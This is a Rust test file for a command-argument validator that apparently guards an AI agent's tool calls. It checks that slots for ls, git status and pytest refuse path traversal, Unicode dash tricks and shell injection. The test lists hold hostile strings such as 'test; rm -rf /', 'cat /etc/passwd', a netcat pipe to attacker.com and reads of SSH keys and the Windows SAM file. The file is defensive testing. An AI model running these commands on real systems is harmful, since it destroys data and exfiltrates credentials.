//! What fills a slot and what does not: the corpus of attacks, the classics by name, and the rules one by one.

use std::path::Path;

use serde_json::{Map, Value as Json, json};

use super::{
    Kind, Slot, check_shell,
    path::contained,
    template::{Template, Unfit},
};

fn slot(name: &str, kind: Kind) -> Slot {
    Slot { name: name.into(), kind, option: None, most: 1, required: false, description: String::new() }
}

fn choice(name: &str, words: &[&str]) -> Slot {
    let words: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
    Slot { most: words.len() as u32, ..slot(name, Kind::Choice(words)) }
}

fn template(argv: &[&str], slots: Vec<Slot>) -> Template {
    let argv: Vec<String> = argv.iter().map(|word| (*word).to_owned()).collect();
    Template::new(&argv, slots).unwrap()
}

fn ls() -> Template {
    let paths = Slot { most: 8, ..slot("paths", Kind::Path) };
    template(&["{flags}", "--", "{paths}"], vec![choice("flags", &["-l", "-a", "-R", "-1"]), paths])
}

fn git_status() -> Template {
    template(&["status", "{flags}"], vec![choice("flags", &["--short", "--branch"])])
}

fn pytest() -> Template {
    let maxfail =
        Slot { option: Some("--maxfail".into()), ..slot("maxfail", Kind::Integer { min: 1, max: 100 }) };
    let kind = Kind::Pattern { pattern: r"[A-Za-z0-9_ ()\[\]-]+".into(), max_length: 200 };
    let keyword = Slot { option: Some("-k".into()), ..slot("keyword", kind) };
    let paths = Slot { most: 8, ..slot("paths", Kind::Path) };
    let flags = choice("flags", &["-x", "-q", "-v"]);
    template(
        &["-m", "pytest", "{flags}", "{maxfail}", "{keyword}", "{paths}"],
        vec![flags, maxfail, keyword, paths],
    )
}

fn words(template: &Template, words: &[&str]) -> Result<Vec<String>, Unfit> {
    template.of_words(words).map(|filled| template.render(&filled))
}

fn names(template: &Template, arguments: Json) -> Result<Vec<String>, Unfit> {
    let Json::Object(arguments) = arguments else { panic!("an object") };
    template.of_names(&arguments).map(|filled| template.render(&filled))
}

#[test]
fn the_corpus_fills_no_slot_that_it_should_not() {
    let (mut denied, mut allowed) = (0, 0);
    for line in include_str!("../../../../corpora/commands.jsonl").lines() {
        let case: Map<String, Json> = serde_json::from_str(line).unwrap();
        let id = case["id"].as_str().unwrap();
        let template = match case["command"].as_str().unwrap() {
            "ls" => ls(),
            "git status" => git_status(),
            "pytest" => pytest(),
            _ => continue,
        };
        // Members that no tool knows, and arguments that are no text, are refused by the schema.
        let known = ["id", "command", "args", "expect", "why", "note"];
        let args: Option<Vec<&str>> = case["args"].as_array().unwrap().iter().map(Json::as_str).collect();
        let (Some(args), true) = (args, case.keys().all(|key| known.contains(&key.as_str()))) else {
            continue;
        };
        let filled = words(&template, &args);
        match case["expect"].as_str().unwrap() {
            "allow" => {
                allowed += 1;
                assert!(filled.is_ok(), "{id}: {filled:?}");
            }
            _ => {
                denied += 1;
                assert!(filled.is_err(), "{id}: {filled:?}");
            }
        }
    }
    assert!(denied >= 30 && allowed >= 5, "{denied} denied, {allowed} allowed");
}

#[test]
fn classic_paths_do_not_leave_the_root() {
    for attack in [
        "../../../etc/passwd",
        r"..\..\..\windows\system32\config\sam",
        "/etc/passwd",
        r"C:\Windows\System32\config\SAM",
        "C:/Windows/System32/config/SAM",
        "src/../../x",
        "..",
        "a/..",
        "~/.ssh/id_ed25519",
        "//etc/passwd",
        "src\0/etc/passwd",
        "a\nb",
        "\u{202e}txt",
        "",
        " -l",
        "\u{2013}maxfail",
        "\u{2014}help",
        "\u{2212}rf",
        "\u{ff0d}x",
    ] {
        assert!(contained(attack).is_err(), "{attack:?}");
    }
}

#[test]
fn classic_injections_fill_no_slot() {
    let backquoted = "test `whoami`";
    for attack in
        ["test; rm -rf /", "test && cat /etc/passwd", "test | nc attacker.com 4444", backquoted, "$(id)"]
    {
        assert!(words(&ls(), &[attack]).is_err(), "path: {attack}");
        assert!(words(&pytest(), &["-k", attack]).is_err(), "pattern: {attack}");
        assert!(words(&pytest(), &["--maxfail", attack]).is_err(), "integer: {attack}");
        assert!(words(&git_status(), &[attack]).is_err(), "choice: {attack}");
        assert!(names(&pytest(), json!({"keyword": attack})).is_err(), "named: {attack}");
        assert!(names(&pytest(), json!({"paths": [attack]})).is_err(), "named path: {attack}");
    }
}

#[test]
fn a_path_never_reads_as_an_option() {
    assert_eq!(contained("src/main.rs"), Ok("./src/main.rs".into()));
    assert_eq!(contained("src/"), Ok("./src".into()));
    assert_eq!(contained("."), Ok(".".into()));
    assert_eq!(contained("..hidden"), Ok("./..hidden".into()));
    assert_eq!(contained("-rf"), Ok("./-rf".into()));
    assert_eq!(contained("[id].tsx"), Ok("./[id].tsx".into()));
    assert_eq!(contained(":(exclude)x"), Ok("./:(exclude)x".into()));
    // As a word it looks like an option, and none is called so.
    assert!(words(&ls(), &["-rf"]).is_err());
    assert_eq!(names(&ls(), json!({"paths": ["-rf"]})).unwrap(), ["--", "./-rf"]);
}

#[test]
fn words_become_exactly_these_arguments() {
    assert_eq!(words(&ls(), &["-l", "src", "..hidden"]).unwrap(), ["-l", "--", "./src", "./..hidden"]);
    assert_eq!(words(&git_status(), &[]).unwrap(), ["status"]);
    let all = words(&pytest(), &["--maxfail", "3", "-q", "tests", "-k", "a and b"]).unwrap();
    assert_eq!(all, ["-m", "pytest", "-q", "--maxfail", "3", "-k", "a and b", "./tests"]);
    let named =
        names(&pytest(), json!({"maxfail": 3, "flags": ["-q"], "paths": ["tests"], "keyword": "a and b"}));
    assert_eq!(named.unwrap(), all);
}

#[test]
fn each_refusal_names_its_place_and_rule() {
    let unfit = |result: Result<Vec<String>, Unfit>| {
        let unfit = result.unwrap_err();
        format!("{}: {}", unfit.field, unfit.rule)
    };
    insta::assert_snapshot!(unfit(words(&pytest(), &["-q", "--maxfail", "0"])), @"/2: must be a whole number from 1 to 100");
    insta::assert_snapshot!(unfit(words(&pytest(), &["--maxfail"])), @"/0: must be followed by its value, as an argument of its own");
    insta::assert_snapshot!(unfit(words(&pytest(), &["--pdb"])), @"/0: is no option of this command: [-x|-q|-v]... [--maxfail 1..100] [-k KEYWORD] [PATH]...");
    insta::assert_snapshot!(unfit(words(&pytest(), &["/etc/passwd"])), @"/0: must be relative to its root");
    insta::assert_snapshot!(unfit(words(&pytest(), &["--maxfail", "1", "--maxfail", "2"])), @"/3: may be given at most 1 time(s)");
    insta::assert_snapshot!(unfit(words(&git_status(), &["src"])), @"/0: fits no argument of this command: [--short|--branch]...");
    insta::assert_snapshot!(unfit(words(&ls(), &["a"; 9])), @"/8: is one too many: `paths` takes at most 8");
    insta::assert_snapshot!(unfit(names(&pytest(), json!({"color": "yes"}))), @"/color: is not a slot of this command");
    insta::assert_snapshot!(unfit(names(&pytest(), json!({"maxfail": 3.0}))), @"/maxfail: must be a whole number from 1 to 100");
}

#[test]
fn numbers_have_one_spelling() {
    for spelling in ["+3", "03", " 3", "3 ", "3.0", "3e0", "0x3", "-1", "\u{663}", "99999999999999999999"] {
        assert!(words(&pytest(), &["--maxfail", spelling]).is_err(), "{spelling:?}");
    }
}

#[test]
fn a_pattern_holds_for_the_whole_text() {
    let one = |pattern: &str| {
        let kind = Kind::Pattern { pattern: pattern.into(), max_length: 5 };
        template(&["{text}"], vec![slot("text", kind)])
    };
    assert!(words(&one("a|b"), &["ab"]).is_err());
    assert!(words(&one("a|b"), &["a\n"]).is_err());
    assert!(words(&one("a|b"), &["b"]).is_ok());
    assert!(words(&one("a*"), &["aaaaaa"]).is_err());
    assert!(names(&one(".*"), json!({"text": "-x"})).is_err(), "an option in disguise");
    assert!(names(&one("(?s).*"), json!({"text": "a\0"})).is_err(), "NUL");
}

#[test]
fn what_is_required_must_be_there() {
    let required = Slot { required: true, ..slot("path", Kind::Path) };
    let template = template(&["--", "{path}"], vec![required]);
    assert_eq!(words(&template, &[]).unwrap_err().rule, "`path` is required");
    assert_eq!(template.schema()["required"], json!(["path"]));
}

#[test]
fn a_declaration_that_leaves_a_gap_is_refused() {
    let refuse = |argv: &[&str], slots: Vec<Slot>| {
        let argv: Vec<String> = argv.iter().map(|word| (*word).to_owned()).collect();
        Template::new(&argv, slots).err().unwrap()
    };
    let pattern = |pattern: &str| slot("a", Kind::Pattern { pattern: pattern.into(), max_length: 9 });
    assert!(refuse(&["{a}"], vec![]).contains("not declared"));
    assert!(refuse(&["{a}", "{a}"], vec![slot("a", Kind::Path)]).contains("twice"));
    assert!(refuse(&[], vec![slot("a", Kind::Path)]).contains("does not stand in"));
    assert!(refuse(&["{a}"], vec![pattern("(")]).contains("regular expression"));
    assert!(refuse(&["{a}"], vec![pattern("a)|(b")]).contains("regular expression"));
    assert!(refuse(&["{a}"], vec![pattern("(?=a)a")]).contains("regular expression"));
    assert!(refuse(&["{a}"], vec![choice("a", &[])]).contains("values"));
    let odd = Slot { option: Some("--x=y z".into()), ..slot("a", Kind::Path) };
    assert!(refuse(&["{a}"], vec![odd]).contains("option"));
    assert!(refuse(&["{a}", "{b}"], vec![choice("a", &["-x"]), choice("b", &["-x"])]).contains("two slots"));
}

#[test]
fn no_shell_reads_text_of_a_caller() {
    let text = [slot("text", Kind::Pattern { pattern: ".*".into(), max_length: 9 })];
    let path = [slot("path", Kind::Path)];
    let links = tempfile::tempdir().unwrap();
    let linked = links.path().join("harmless");
    std::os::unix::fs::symlink("/bin/sh", &linked).unwrap();
    for shell in [Path::new("/bin/sh"), Path::new("/usr/bin/bash"), Path::new("/opt/busybox"), &linked] {
        assert!(check_shell(shell, &text).is_err() && check_shell(shell, &path).is_err(), "{shell:?}");
        assert!(check_shell(shell, &[choice("words", &["a"])]).is_ok(), "words of the operator");
    }
    assert!(check_shell(Path::new("/usr/bin/git"), &text).is_ok());
}
